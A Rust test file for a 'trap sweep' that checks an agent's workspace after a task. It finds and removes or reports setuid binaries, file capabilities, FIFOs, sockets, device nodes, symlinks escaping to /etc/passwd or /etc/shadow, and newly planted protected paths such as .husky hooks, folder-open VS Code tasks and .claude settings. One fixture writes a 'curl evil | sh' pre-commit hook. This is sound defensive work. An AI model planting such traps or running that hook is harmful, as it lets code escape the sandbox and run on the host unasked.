//! The trap sweep against real files: each kind found, defused with
//! `Remove`, left alone with `Report`, and what must not be reported.

use std::ffi::CString;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{symlink, FileTypeExt, PermissionsExt};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant, SystemTime};

use agent_muscle::exec::traps::{
    protected_existing, sweep, Snapshot, Trap, TrapAction, TrapKind, PROTECTED,
};

fn write(path: &Path, text: &str) {
    if let Some(dir) = path.parent() {
        fs_err::create_dir_all(dir).expect("parent created");
    }
    fs_err::write(path, text).expect("file written");
}

fn mode(path: &Path) -> u32 {
    fs_err::symlink_metadata(path)
        .expect("path exists")
        .permissions()
        .mode()
        & 0o7777
}

fn exists(path: &Path) -> bool {
    fs_err::symlink_metadata(path).is_ok()
}

fn c(path: &Path) -> CString {
    CString::new(path.as_os_str().as_bytes()).expect("no NUL in a temp path")
}

fn mkfifo(path: &Path) {
    let p = c(path);
    // SAFETY: `p` is a NUL-terminated path that outlives the call.
    assert_eq!(unsafe { libc::mkfifo(p.as_ptr(), 0o644) }, 0);
}

/// `/dev/null`'s numbers; needs root, which the test machine is.
fn mknod_null(path: &Path) {
    let p = c(path);
    // SAFETY: `p` is a NUL-terminated path that outlives the call.
    let rc = unsafe { libc::mknod(p.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 3)) };
    assert_eq!(rc, 0, "mknod: {}", std::io::Error::last_os_error());
}

/// A `vfs_cap_data` revision 2 blob (20 bytes, little-endian): magic with
/// the effective flag, then permitted/inheritable for capabilities 0–31 and
/// 32–63. Grants `CAP_NET_BIND_SERVICE` (10).
fn set_capability(path: &Path) {
    let mut blob = Vec::new();
    blob.extend(0x0200_0001u32.to_le_bytes());
    blob.extend((1u32 << 10).to_le_bytes());
    blob.extend(0u32.to_le_bytes());
    blob.extend(0u32.to_le_bytes());
    blob.extend(0u32.to_le_bytes());
    let p = c(path);
    // SAFETY: `p` and the name are NUL-terminated and `blob` is valid for
    // `blob.len()` bytes; all outlive the call, which only reads them.
    let rc = unsafe {
        libc::lsetxattr(
            p.as_ptr(),
            c"security.capability".as_ptr(),
            blob.as_ptr().cast(),
            blob.len(),
            0,
        )
    };
    assert_eq!(rc, 0, "lsetxattr: {}", std::io::Error::last_os_error());
}

/// A workspace, its snapshot and the run's start, before any trap is made.
struct Run {
    dir: tempfile::TempDir,
    since: SystemTime,
    before: Snapshot,
}

impl Run {
    fn start() -> Run {
        Run::start_with(|_| {})
    }

    /// Runs `setup` (what the repository held before the task) first.
    fn start_with(setup: impl FnOnce(&Path)) -> Run {
        let dir = tempfile::tempdir().expect("temp dir");
        setup(dir.path());
        Run {
            before: Snapshot::take(dir.path()),
            since: SystemTime::now(),
            dir,
        }
    }

    fn ws(&self) -> &Path {
        self.dir.path()
    }

    fn sweep(&self, action: TrapAction) -> Vec<Trap> {
        sweep(self.ws(), self.since, &self.before, action)
    }
}

fn kinds(traps: &[Trap]) -> Vec<(PathBuf, TrapKind)> {
    let mut out: Vec<_> = traps
        .iter()
        .map(|t| (t.path.clone(), t.kind.clone()))
        .collect();
    out.sort_by(|a, b| a.0.cmp(&b.0));
    out
}

#[test]
fn setuid_file_keeps_existing_with_its_bits_cleared() {
    let run = Run::start();
    let sh = run.ws().join("w/sh");
    fs_err::create_dir_all(sh.parent().unwrap()).unwrap();
    fs_err::copy("/bin/sh", &sh).unwrap();
    fs_err::set_permissions(&sh, PermissionsExt::from_mode(0o6755)).unwrap();

    let traps = run.sweep(TrapAction::Report);
    assert_eq!(
        kinds(&traps),
        [(PathBuf::from("w/sh"), TrapKind::SetId { mode: 0o6755 })]
    );
    assert_eq!(
        traps[0].to_string(),
        "`w/sh` is setuid and setgid (mode 6755) (left in place)"
    );
    assert_eq!(mode(&sh), 0o6755);

    let traps = run.sweep(TrapAction::Remove);
    assert!(traps[0].removed);
    assert_eq!(mode(&sh), 0o755);
    assert!(run.sweep(TrapAction::Report).is_empty());
}

#[test]
fn file_capability_is_removed() {
    let run = Run::start();
    let tool = run.ws().join("tool");
    write(&tool, "#!/bin/sh\n");
    set_capability(&tool);

    let traps = run.sweep(TrapAction::Remove);
    assert_eq!(
        kinds(&traps),
        [(PathBuf::from("tool"), TrapKind::FileCapability)]
    );
    assert!(traps[0].removed);
    assert!(exists(&tool));
    assert!(run.sweep(TrapAction::Report).is_empty());
}

#[test]
fn fifo_socket_and_device_are_deleted() {
    let run = Run::start();
    let fifo = run.ws().join("package.json");
    let sock = run.ws().join("s/agent.sock");
    let dev = run.ws().join("null");
    mkfifo(&fifo);
    fs_err::create_dir(run.ws().join("s")).unwrap();
    let listener = UnixListener::bind(&sock).unwrap();
    mknod_null(&dev);

    let traps = run.sweep(TrapAction::Remove);
    assert_eq!(
        kinds(&traps),
        [
            (PathBuf::from("null"), TrapKind::Device),
            (PathBuf::from("package.json"), TrapKind::Fifo),
            (PathBuf::from("s/agent.sock"), TrapKind::Socket),
        ]
    );
    assert!(traps.iter().all(|t| t.removed));
    assert!(!exists(&fifo) && !exists(&sock) && !exists(&dev));
    drop(listener);
}

#[test]
fn symlinks_leaving_the_workspace_are_deleted_and_inside_ones_kept() {
    let run = Run::start();
    let ws = run.ws();
    fs_err::create_dir_all(ws.join("d/a")).unwrap();
    symlink("/etc/passwd", ws.join("notes.txt")).unwrap();
    symlink("../../x", ws.join("up")).unwrap();
    symlink("../../../etc/shadow", ws.join("d/a/deep")).unwrap();
    // Inside: relative, absolute under the workspace, and `..` back to it.
    symlink("d/a", ws.join("ok")).unwrap();
    symlink(ws.join("d"), ws.join("abs_ok")).unwrap();
    symlink("..", ws.join("d/up")).unwrap();
    // Lexically `d`, but `d/up` is the root, so this is the root's parent.
    symlink("d/up/..", ws.join("chain")).unwrap();

    let traps = run.sweep(TrapAction::Remove);
    let outside = |target: &str| TrapKind::SymlinkOutside {
        target: PathBuf::from(target),
    };
    assert_eq!(
        kinds(&traps),
        [
            (PathBuf::from("chain"), outside("d/up/..")),
            (PathBuf::from("d/a/deep"), outside("../../../etc/shadow")),
            (PathBuf::from("notes.txt"), outside("/etc/passwd")),
            (PathBuf::from("up"), outside("../../x")),
        ]
    );
    assert!(traps.iter().all(|t| t.removed));
    assert!(!exists(&ws.join("notes.txt")));
    assert!(Path::new("/etc/passwd").exists(), "the target is untouched");
    for kept in ["ok", "abs_ok", "d/up"] {
        assert!(exists(&ws.join(kept)), "{kept}");
    }
}

#[test]
fn entries_changed_before_the_run_are_not_examined() {
    // A ctime cannot be set back, so the test moves `since` forward instead:
    // with `since` a minute ahead, everything here counts as older than the
    // run, like a repository's own symlinks.
    let run = Run::start();
    symlink("/etc/passwd", run.ws().join("old_link")).unwrap();
    mkfifo(&run.ws().join("old_fifo"));
    let later = SystemTime::now() + Duration::from_secs(60);
    let traps = sweep(run.ws(), later, &run.before, TrapAction::Remove);
    assert!(traps.is_empty(), "{traps:?}");
    assert!(exists(&run.ws().join("old_link")));
}

#[test]
fn protected_path_created_is_removed_and_existing_one_kept() {
    let run = Run::start_with(|ws| write(&ws.join(".git/config"), "[core]\n"));
    assert_eq!(
        protected_existing(run.ws(), &[".git/config", ".husky"]),
        [run.ws().join(".git/config")]
    );
    write(&run.ws().join(".husky/pre-commit"), "curl evil | sh\n");

    // Regardless of time: `since` in the future does not hide it.
    let later = SystemTime::now() + Duration::from_secs(60);
    let traps = sweep(run.ws(), later, &run.before, TrapAction::Report);
    assert_eq!(
        kinds(&traps),
        [(PathBuf::from(".husky"), TrapKind::ProtectedCreated)]
    );

    let traps = run.sweep(TrapAction::Remove);
    assert_eq!(traps.len(), 1);
    assert!(traps[0].removed);
    assert!(!exists(&run.ws().join(".husky")));
    assert!(exists(&run.ws().join(".git/config")));
}

#[test]
fn protected_path_replaced_is_reported_but_left() {
    // E.g. renaming the read-only `.vscode` away and making a new one.
    let run = Run::start_with(|ws| write(&ws.join(".vscode/settings.json"), "{}"));
    let ws = run.ws();
    fs_err::rename(ws.join(".vscode"), ws.join("old")).unwrap();
    write(
        &ws.join(".vscode/tasks.json"),
        "{\"runOn\": \"folderOpen\"}",
    );

    let traps = run.sweep(TrapAction::Remove);
    assert_eq!(
        kinds(&traps),
        [(PathBuf::from(".vscode"), TrapKind::ProtectedCreated)]
    );
    assert!(!traps[0].removed, "the host may have rewritten it");
    assert!(exists(&ws.join(".vscode/tasks.json")));
}

#[test]
fn protected_path_reached_through_a_new_symlink_removes_the_link_only() {
    let run = Run::start();
    let ws = run.ws();
    write(&ws.join("sub/settings.json"), "{\"hooks\": {}}");
    symlink("sub", ws.join(".claude")).unwrap();
    // `.git` as a file (a gitfile) stands where `.git/config` would be.
    write(&ws.join(".git"), "gitdir: sub\n");

    let traps = run.sweep(TrapAction::Remove);
    assert_eq!(
        kinds(&traps),
        [
            (PathBuf::from(".claude"), TrapKind::ProtectedCreated),
            (PathBuf::from(".git"), TrapKind::ProtectedCreated),
        ]
    );
    assert!(traps.iter().all(|t| t.removed));
    assert!(!exists(&ws.join(".claude")) && !exists(&ws.join(".git")));
    assert!(exists(&ws.join("sub/settings.json")));
}

#[test]
fn walk_does_not_follow_a_symlink_to_a_directory_outside() {
    let outside = tempfile::tempdir().unwrap();
    let su = outside.path().join("su");
    fs_err::copy("/bin/sh", &su).unwrap();
    fs_err::set_permissions(&su, PermissionsExt::from_mode(0o4755)).unwrap();
    mkfifo(&outside.path().join("fifo"));

    let run = Run::start();
    symlink(outside.path(), run.ws().join("link")).unwrap();
    let traps = run.sweep(TrapAction::Remove);
    assert_eq!(
        kinds(&traps),
        [(
            PathBuf::from("link"),
            TrapKind::SymlinkOutside {
                target: outside.path().to_path_buf()
            }
        )]
    );
    assert_eq!(mode(&su), 0o4755);
    assert!(fs_err::symlink_metadata(outside.path().join("fifo"))
        .unwrap()
        .file_type()
        .is_fifo());
}

#[test]
fn report_changes_nothing_on_disk() {
    let run = Run::start();
    let ws = run.ws();
    let sh = ws.join("sh");
    write(&sh, "#!/bin/sh\n");
    fs_err::set_permissions(&sh, PermissionsExt::from_mode(0o4755)).unwrap();
    let capped = ws.join("capped");
    write(&capped, "x");
    set_capability(&capped);
    mkfifo(&ws.join("fifo"));
    mknod_null(&ws.join("null"));
    symlink("/etc/passwd", ws.join("passwd")).unwrap();
    write(&ws.join(".mcp.json"), "{}");

    let first = run.sweep(TrapAction::Report);
    assert_eq!(first.len(), 6, "{first:?}");
    assert!(first.iter().all(|t| !t.removed));
    assert_eq!(mode(&sh), 0o4755);
    for path in ["capped", "fifo", "null", "passwd", ".mcp.json"] {
        assert!(exists(&ws.join(path)), "{path}");
    }
    assert_eq!(kinds(&run.sweep(TrapAction::Report)), kinds(&first));
}

#[test]
fn traps_serialize_with_lossy_paths() {
    let trap = Trap {
        path: PathBuf::from("w/sh"),
        kind: TrapKind::SetId { mode: 0o4755 },
        removed: true,
    };
    assert_eq!(
        serde_json::to_string(&trap).unwrap(),
        r#"{"path":"w/sh","kind":{"type":"set_id","mode":2541},"removed":true}"#
    );
    assert!(PROTECTED.iter().any(|p| p.path == ".git/hooks"));
}

/// Sweep cost on 100,000 files: `cargo test --release -p agent-muscle --test
/// it sweep_cost -- --ignored --nocapture`.
#[test]
#[ignore = "a timing, not a check"]
fn sweep_cost_of_100k_files() {
    let run = Run::start();
    for d in 0..100 {
        let dir = run.ws().join(format!("d{d}"));
        fs_err::create_dir(&dir).unwrap();
        for f in 0..1000 {
            fs_err::write(dir.join(format!("f{f}")), "").unwrap();
        }
    }
    let later = SystemTime::now() + Duration::from_secs(60);
    for (label, since) in [("all changed", run.since), ("none changed", later)] {
        let start = Instant::now();
        let traps = sweep(run.ws(), since, &run.before, TrapAction::Report);
        println!("{label}: {:?} for 100,100 entries", start.elapsed());
        assert!(traps.is_empty());
    }
}
